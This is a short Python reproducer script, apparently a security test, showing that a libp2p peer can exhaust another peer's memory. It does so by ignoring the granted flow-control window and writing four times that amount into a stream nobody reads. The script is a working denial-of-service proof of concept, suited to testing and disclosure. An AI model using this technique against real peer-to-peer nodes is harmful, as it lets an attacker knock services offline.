"""A peer fills the memory through one stream that no task reads."""

from __future__ import annotations

from contextlib import suppress
from typing import Any

import trio
from libp2p.custom_types import TProtocol
from libp2p.network.stream.exceptions import StreamError
from support import LOOPBACK, connect, holds, main, new_host

PROTOCOL = TProtocol("/reproducer")


async def reproduce() -> str:
    """Return the fault that was found."""
    victim, attacker = new_host(201), new_host(202)

    async def wait(stream: Any) -> None:
        await trio.sleep_forever()

    victim.set_stream_handler(PROTOCOL, wait)
    async with victim.run([LOOPBACK]), attacker.run([]):
        await connect(attacker, victim)
        stream = await attacker.new_stream(victim.get_id(), [PROTOCOL])
        [[connection]] = victim.get_network().connections.values()
        muxed = connection.muxed_conn
        granted = muxed.streams[stream.muxed_stream.stream_id].recv_window
        sent = stream.muxed_stream.send_window = 4 * granted  # the attacker ignores what was granted
        with suppress(StreamError):
            await stream.write(bytes(sent))

        def buffered() -> int:
            return sum(map(len, muxed.stream_buffers.values()))

        await holds(lambda: muxed.is_closed or buffered() == sent)
        return "" if muxed.is_closed else f"{buffered()} bytes are buffered, the window is {granted}"


if __name__ == "__main__":
    main(reproduce)
